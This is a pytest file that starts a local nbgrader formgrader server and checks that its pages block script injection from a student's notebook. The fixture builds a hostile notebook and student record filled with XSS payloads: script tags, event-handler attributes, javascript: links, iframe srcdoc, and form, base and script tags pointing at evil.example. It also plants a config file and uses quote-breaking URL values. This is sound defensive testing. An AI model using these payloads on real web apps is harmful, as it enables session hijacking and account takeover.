"""The formgrader's pages as its server sends them: nbgrader's scripts run on them, a student's cannot."""

import os
import re
import socket
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest
import requests
from bs4 import BeautifulSoup
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.api import Gradebook

import grading.record  # noqa: F401  makes nbgrader find its tools
from grading.feedback import STYLE

ROOT = Path(__file__).parents[1]
PAYLOAD = (
    "<script>owned()</script><img src=x onerror='owned()'><svg onload='owned()'></svg>[a](javascript:owned())"
    "<iframe srcdoc='<script>owned()</script>'></iframe><form action=http://evil.example><base href=//evil.example>"
    "</code></pre></div></body><script src=//evil.example/owned.js></script>"
)
CONFIG = """
import sys
sys.path.insert(0, {root!r})
with open({config!r}) as file:
    exec(compile(file.read(), "nbgrader_config.py", "exec"), dict(globals(), __file__=__file__))
"""
MARKS = {"schema_version": 3, "locked": False, "task": False}


def hostile_notebook():
    """As if nothing had cleaned it: what is under test are the pages."""
    written = {**MARKS, "grade_id": "prose", "grade": True, "solution": True, "points": 4, "cell_type": "markdown"}
    code = {**MARKS, "grade_id": "code", "grade": False, "solution": True, "cell_type": "code"}
    rich = dict.fromkeys(("text/html", "text/markdown", "image/svg+xml", "text/latex", "text/plain"), PAYLOAD)
    outputs = [new_output("display_data", data=rich | {"application/javascript": "owned()"})]
    outputs += [new_output("stream", text=PAYLOAD), new_output("error", ename=PAYLOAD, evalue=PAYLOAD)]
    return new_notebook(cells=[
        new_markdown_cell(PAYLOAD, metadata={"nbgrader": written}),
        new_code_cell(f"# {PAYLOAD}", metadata={"nbgrader": code}, outputs=outputs),
        new_code_cell(PAYLOAD, outputs=outputs),
    ])  # fmt: skip


class Formgrader:
    """A running server over a course of one hostile submission."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        config = CONFIG.format(root=str(ROOT), config=str(ROOT / "nbgrader_config.py"))
        (folder / "nbgrader_config.py").write_text(config)
        handed_in = folder / "submitted" / "mallory" / "p4"
        handed_in.mkdir(parents=True)
        (handed_in / "nbgrader_config.py").write_text(f"open({str(folder / 'owned')!r}, 'w')")
        graded = folder / "autograded" / "mallory" / "p4" / "p4.ipynb"
        graded.parent.mkdir(parents=True)
        graded.write_text(nbformat.writes(hostile_notebook()))
        with Gradebook(f"sqlite:///{folder / 'gradebook.db'}", "prooflm") as gradebook:
            gradebook.add_assignment("p4")
            gradebook.add_notebook("p4", "p4")
            gradebook.add_grade_cell("prose", "p4", "p4", max_score=4, cell_type="markdown")
            gradebook.add_student("mallory", first_name=PAYLOAD, last_name='"' + PAYLOAD)
            self.submission = gradebook.add_submission("p4", "mallory").notebooks[0].id
        with socket.create_server(("127.0.0.1", 0)) as server:
            self.port = server.getsockname()[1]
        command = [sys.executable, "-m", "jupyter_server", "--no-browser", "--allow-root", f"--port={self.port}",
                   "--ServerApp.port_retries=0", "--IdentityProvider.token=token", "--ServerApp.root_dir=.",
                   "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}"]  # fmt: skip
        environment = os.environ | {"JUPYTER_PREFER_ENV_PATH": "1", "JUPYTER_CONFIG_DIR": str(folder / "config")}
        self.log = open(folder / "log", "w")  # noqa: SIM115  closed by end()
        self.server = subprocess.Popen(command, cwd=folder, env=environment, stdout=self.log, stderr=self.log)
        self.session = requests.Session()
        deadline = time.monotonic() + 60
        while True:
            try:
                self.get("?token=token")
                return
            except requests.ConnectionError:
                assert self.server.poll() is None and time.monotonic() < deadline, (folder / "log").read_text()
                time.sleep(0.2)

    def address(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}/formgrader{path}"

    def get(self, path: str) -> requests.Response:
        return self.session.get(self.address(path))

    def end(self) -> None:
        self.server.kill()
        self.server.wait()
        self.log.close()


@pytest.fixture(scope="module")
def formgrader(tmp_path_factory):
    running = Formgrader(tmp_path_factory.mktemp("course"))
    yield running
    running.end()


PAGES = ["/submissions/SUBMISSION/", "/manage_assignments", "/manage_submissions/p4", "/gradebook", "/gradebook/p4",
         "/gradebook/p4/p4", "/manage_students", "/manage_students/mallory", "/manage_students/mallory/p4"]  # fmt: skip


@pytest.mark.parametrize("path", PAGES)
def test_only_nbgraders_scripts_run_on_a_page(formgrader, path):
    answer = formgrader.get(path.replace("SUBMISSION", formgrader.submission))
    assert answer.status_code == 200
    policy = answer.headers["Content-Security-Policy"]
    (nonce,) = re.findall(r"script-src 'nonce-([\w-]+)';", policy)
    assert policy.startswith("default-src 'none';") and "unsafe-eval" not in policy
    page = BeautifulSoup(answer.text, "html.parser")
    scripts = page.select("script")
    assert len(scripts) > 5 and {script["nonce"] for script in scripts} == {nonce}
    assert all(script.get("src", "/formgrader/static/").startswith("/formgrader/static/") for script in scripts)
    assert not [script for script in scripts if "owned" in str(script)]
    assert not page.select("iframe, object, embed, form, base, meta[http-equiv]")
    assert not [e for e in page.find_all(True) if any(name.lower().startswith("on") for name in e.attrs)]
    targets = [e.get("href", e.get("src")) for e in page.select("[href], [src]")]
    assert not [target for target in targets if "owned" in target or "evil" in target]


def test_submission_is_shown_as_text_with_a_place_for_points(formgrader):
    page = BeautifulSoup(formgrader.get(f"/submissions/{formgrader.submission}/").text, "html.parser")
    assert page.select_one("input.score#prose") and page.select_one("textarea#prose-comment")
    assert page.get_text().count("<script>owned()</script>") >= 5
    assert STYLE in map(str, (style.string for style in page.select("head style")))


def test_each_answer_has_a_nonce_of_its_own(formgrader):
    policies = {formgrader.get("/gradebook").headers["Content-Security-Policy"] for _ in range(3)}
    assert len(policies) == 3


def test_points_can_be_given(formgrader):
    (grade,) = formgrader.get(f"/api/grades?submission_id={formgrader.submission}").json()
    token = formgrader.session.cookies["_xsrf"]
    sent = formgrader.session.put(
        formgrader.address(f"/api/grade/{grade['id']}"), json={"manual_score": 3}, headers={"X-XSRFToken": token}
    )
    assert sent.status_code == 200
    (grade,) = formgrader.get(f"/api/grades?submission_id={formgrader.submission}").json()
    assert grade["manual_score"] == 3


@pytest.mark.parametrize("path", ["/api/grades?submission_id=SUBMISSION", "/submissions/SUBMISSION/p4.ipynb"])
def test_what_is_no_page_runs_nothing(formgrader, path):
    answer = formgrader.get(path.replace("SUBMISSION", formgrader.submission))
    assert answer.status_code == 200
    assert "sandbox;" in answer.headers["Content-Security-Policy"]
    assert "nonce" not in answer.headers["Content-Security-Policy"]


@pytest.mark.parametrize("name", ["%22;owned()//", "%3Cscript%3E", "x%5C/%22;owned()//", "'-owned()-'"])
def test_an_address_that_would_write_into_a_script_is_refused(formgrader, name):
    answer = formgrader.get(f"/gradebook/{name}/")
    assert answer.status_code == 404 and "owned()" not in answer.text


def test_an_address_cannot_run_a_students_configuration(formgrader):
    assert formgrader.get("?path=submitted/mallory/p4").status_code == 403
    assert formgrader.get(f"?path={formgrader.folder}").status_code == 200
    assert not (formgrader.folder / "owned").exists()
